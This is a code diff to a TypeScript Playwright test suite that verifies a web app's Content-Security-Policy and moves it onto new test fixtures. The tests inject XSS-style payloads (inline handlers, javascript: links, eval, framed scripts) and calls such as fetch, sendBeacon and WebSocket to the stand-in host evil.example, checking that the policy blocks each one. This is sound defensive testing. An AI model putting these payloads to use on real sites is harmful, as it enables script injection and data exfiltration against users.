@@ -1,16 +1,13 @@
 import { readFile } from 'node:fs/promises';
 import { join } from 'node:path';
-import { type Browser, type BrowserContext, chromium } from 'playwright';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { findChromium, launchOptions } from '../../src/export/browser/find-chromium.ts';
-import { builtPages } from '../../src/server/built-pages.ts';
+import type { Browser } from '@playwright/test';
 import { makeDocx, p as paragraph } from '../import/docx-file.ts';
-import { startStaticHost } from './static-host.ts';
-import { WINDOW } from './window-size.ts';
+import type { StaticHost } from './static-host.ts';
+import { expect, test } from './test.ts';
 
 /** The Content-Security-Policy of the built app: that each page has it, that it holds, and that the app lives by it. */
 
-const PAGES = ['index', 'deck', 'handout', 'speaker', 'themes'] as const;
+const PAGES = ['index', 'deck', 'handout', 'presenter', 'themes'] as const;
 
 /** What each directive has to be; no other may be there, and none may be missing. */
 const POLICY: Readonly<Record<string, string>> = {
@@ -28,9 +25,9 @@ const POLICY: Readonly<Record<string, string>> = {
   'object-src': "'none'",
 };
 
-describe.each(PAGES)('%s.html', (name) => {
-  it('begins with the policy, and has no script of its own', async () => {
-    const html = await readFile(join(await builtPages(), `${name}.html`), 'utf8');
+for (const name of PAGES)
+  test(`${name}.html begins with the policy, and has no script of its own`, async ({ builtPages }) => {
+    const html = await readFile(join(builtPages, `${name}.html`), 'utf8');
     const [, policy = ''] = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html) ?? [];
     const directives = policy
       .replaceAll('&#39;', "'")
@@ -47,27 +44,15 @@ describe.each(PAGES)('%s.html', (name) => {
     }
     expect(html).not.toMatch(/\son\w+\s*=|javascript:|\b(?:src|href)="(?:https?:)?\/\//i);
   });
-});
 
-let host: Awaited<ReturnType<typeof startStaticHost>>;
-let browser: Browser;
-let context: BrowserContext;
-/** Violations, requests to another origin, errors nobody caught. */
-let events: string[];
-
-beforeAll(async () => {
-  host = await startStaticHost();
-  browser = await chromium.launch(launchOptions(await findChromium()));
-});
-afterAll(async () => {
-  await browser?.close();
-  await host?.close();
-});
-
-/** A window that tells every violation in any of its pages and frames. */
-async function openContext(): Promise<void> {
-  events = [];
-  context = await browser.newContext({ viewport: WINDOW, locale: 'zh-CN' });
+/**
+ * A window that tells every violation in any of its pages and frames.
+ *
+ * @returns the window, and what was told: violations, requests to another origin, errors nobody caught
+ */
+async function openContext(browser: Browser, host: StaticHost) {
+  const events: string[] = [];
+  const context = await browser.newContext();
   await context.exposeFunction('tellViolation', (what: string) => void events.push(what));
   await context.addInitScript(() => {
     const { tellViolation } = window as unknown as { tellViolation: (what: string) => void };
@@ -92,10 +77,11 @@ async function openContext(): Promise<void> {
     if (why !== 'net::ERR_ABORTED') events.push(`${why === 'csp' ? 'blocked' : 'failed'} ${request.url()}`);
   });
   context.on('weberror', (error) => events.push(error.error().message));
+  return { context, events };
 }
 
-it('a whole visit breaks it nowhere', async () => {
-  await openContext();
+test('a whole visit breaks it nowhere', async ({ browser, host }) => {
+  const { context, events } = await openContext(browser, host);
   const page = await context.newPage();
   const byTestId = (id: string) => page.locator(`[data-testid="${id}"]`);
   const text = () => page.locator('.cm-content').textContent();
@@ -173,96 +159,97 @@ it('a whole visit breaks it nowhere', async () => {
   await context.close();
 });
 
-it.each(PAGES)('in %s.html nothing strange runs, loads or leaves', async (name) => {
-  await openContext();
-  const page = await context.newPage();
-  await page.goto(`${host.url}${name}.html`);
-  await page.evaluate(() => document.fonts.ready.then(() => undefined));
-  // By itself it breaks nothing.
-  expect(events).toEqual([]);
-  const ran = await page.evaluate(async () => {
-    const ran: string[] = [];
-    Object.assign(window, { ran: (what: string) => ran.push(what) });
-    const put = (html: string) => {
-      const place = document.createElement('div');
-      // As a hole in the page would.
-      place.innerHTML = html;
-      document.body.append(place);
-      return place;
-    };
-    const script = document.createElement('script');
-    script.textContent = 'ran("inline script")';
-    document.body.append(script);
-    const foreign = document.createElement('script');
-    foreign.src = 'https://evil.example/x.js';
-    document.body.append(foreign);
-    const blob = document.createElement('script');
-    blob.src = URL.createObjectURL(new Blob(['ran("script from a blob")']));
-    document.body.append(blob);
-    put('<img src="data:," onerror="ran(\'inline handler\')">');
-    put('<a href="javascript:ran(\'address\')">x</a>').querySelector('a')!.click();
-    put('<iframe srcdoc="<script>parent.ran(\'framed script\')</script>"></iframe>');
-    put('<img src="https://evil.example/pixel.png">');
-    put('<iframe src="https://evil.example/"></iframe>');
-    put('<object data="https://evil.example/x"></object>');
-    put('<link rel="stylesheet" href="https://evil.example/x.css">');
-    put(
-      '<style>@font-face{font-family:evil;src:url(https://evil.example/f.woff2)} body{font-family:evil}</style>',
-    );
-    put('<base href="https://evil.example/">');
-    put('<form action="https://evil.example/"><input name="a"></form>').querySelector('form')!.submit();
-    // Until the browser's tools have let go of the page: what they ask for may use eval.
-    await new Promise((done) => requestAnimationFrame(done));
-    try {
-      // biome-ignore lint/security/noGlobalEval: it must be refused
-      window.eval('ran("eval")');
-    } catch {
-      // as it should
-    }
-    try {
-      new Function('ran("new Function")')();
-    } catch {
-      // as it should
-    }
-    await fetch('https://evil.example/').catch(() => undefined);
-    navigator.sendBeacon('https://evil.example/', 'text');
-    try {
-      new WebSocket('wss://evil.example/');
-      new EventSource('https://evil.example/');
-      new Worker('https://evil.example/x.js');
-    } catch {
-      // another origin's worker is refused anyway
-    }
-    // Each of them has had its turn when these are told.
-    for (let turn = 0; turn < 5; turn++) await new Promise((done) => requestAnimationFrame(done));
-    return [...ran, ...(document.baseURI.startsWith(location.origin) ? [] : ['base'])];
+for (const name of PAGES)
+  test(`in ${name}.html nothing strange runs, loads or leaves`, async ({ browser, host }) => {
+    const { context, events } = await openContext(browser, host);
+    const page = await context.newPage();
+    await page.goto(`${host.url}${name}.html`);
+    await page.evaluate(() => document.fonts.ready.then(() => undefined));
+    // By itself it breaks nothing.
+    expect(events).toEqual([]);
+    const ran = await page.evaluate(async () => {
+      const ran: string[] = [];
+      Object.assign(window, { ran: (what: string) => ran.push(what) });
+      const put = (html: string) => {
+        const place = document.createElement('div');
+        // As a hole in the page would.
+        place.innerHTML = html;
+        document.body.append(place);
+        return place;
+      };
+      const script = document.createElement('script');
+      script.textContent = 'ran("inline script")';
+      document.body.append(script);
+      const foreign = document.createElement('script');
+      foreign.src = 'https://evil.example/x.js';
+      document.body.append(foreign);
+      const blob = document.createElement('script');
+      blob.src = URL.createObjectURL(new Blob(['ran("script from a blob")']));
+      document.body.append(blob);
+      put('<img src="data:," onerror="ran(\'inline handler\')">');
+      put('<a href="javascript:ran(\'address\')">x</a>').querySelector('a')!.click();
+      put('<iframe srcdoc="<script>parent.ran(\'framed script\')</script>"></iframe>');
+      put('<img src="https://evil.example/pixel.png">');
+      put('<iframe src="https://evil.example/"></iframe>');
+      put('<object data="https://evil.example/x"></object>');
+      put('<link rel="stylesheet" href="https://evil.example/x.css">');
+      put(
+        '<style>@font-face{font-family:evil;src:url(https://evil.example/f.woff2)} body{font-family:evil}</style>',
+      );
+      put('<base href="https://evil.example/">');
+      put('<form action="https://evil.example/"><input name="a"></form>').querySelector('form')!.submit();
+      // Until the browser's tools have let go of the page: what they ask for may use eval.
+      await new Promise((done) => requestAnimationFrame(done));
+      try {
+        // biome-ignore lint/security/noGlobalEval: it must be refused
+        window.eval('ran("eval")');
+      } catch {
+        // as it should
+      }
+      try {
+        new Function('ran("new Function")')();
+      } catch {
+        // as it should
+      }
+      await fetch('https://evil.example/').catch(() => undefined);
+      navigator.sendBeacon('https://evil.example/', 'text');
+      try {
+        new WebSocket('wss://evil.example/');
+        new EventSource('https://evil.example/');
+        new Worker('https://evil.example/x.js');
+      } catch {
+        // another origin's worker is refused anyway
+      }
+      // Each of them has had its turn when these are told.
+      for (let turn = 0; turn < 5; turn++) await new Promise((done) => requestAnimationFrame(done));
+      return [...ran, ...(document.baseURI.startsWith(location.origin) ? [] : ['base'])];
+    });
+    expect(ran).toEqual([]);
+    const strange = (kind: string) =>
+      events
+        .filter((event) => event.startsWith(`${kind} https://`))
+        .map((event) => event.slice(kind.length + 1));
+    // The browser's tools see the wish; the policy is why nothing came of it.
+    await expect.poll(() => strange('blocked').sort()).toEqual(strange('asked').sort());
+    expect(strange('failed')).toEqual([]);
+    for (const told of [
+      /^script-src-elem inline/,
+      /^script-src-elem https:\/\/evil/,
+      /^script-src-elem blob/,
+      /^script-src-attr inline/,
+      /^script-src eval/,
+      /^img-src https:\/\/evil/,
+      /^frame-src https:\/\/evil/,
+      /^object-src https:\/\/evil/,
+      /^style-src-elem https:\/\/evil/,
+      /^font-src https:\/\/evil/,
+      /^connect-src https:\/\/evil/,
+      /^connect-src wss:\/\/evil/,
+      /^base-uri https:\/\/evil/,
+      /^form-action https:\/\/evil/,
+    ])
+      await expect
+        .poll(() => events.filter((event) => told.test(event)), { message: told.source })
+        .not.toEqual([]);
+    await context.close();
   });
-  expect(ran).toEqual([]);
-  const strange = (kind: string) =>
-    events
-      .filter((event) => event.startsWith(`${kind} https://`))
-      .map((event) => event.slice(kind.length + 1));
-  // The browser's tools see the wish; the policy is why nothing came of it.
-  await expect.poll(() => strange('blocked').sort()).toEqual(strange('asked').sort());
-  expect(strange('failed')).toEqual([]);
-  for (const told of [
-    /^script-src-elem inline/,
-    /^script-src-elem https:\/\/evil/,
-    /^script-src-elem blob/,
-    /^script-src-attr inline/,
-    /^script-src eval/,
-    /^img-src https:\/\/evil/,
-    /^frame-src https:\/\/evil/,
-    /^object-src https:\/\/evil/,
-    /^style-src-elem https:\/\/evil/,
-    /^font-src https:\/\/evil/,
-    /^connect-src https:\/\/evil/,
-    /^connect-src wss:\/\/evil/,
-    /^base-uri https:\/\/evil/,
-    /^form-action https:\/\/evil/,
-  ])
-    await expect
-      .poll(() => events.filter((event) => told.test(event)), { message: told.source })
-      .not.toEqual([]);
-  await context.close();
-});
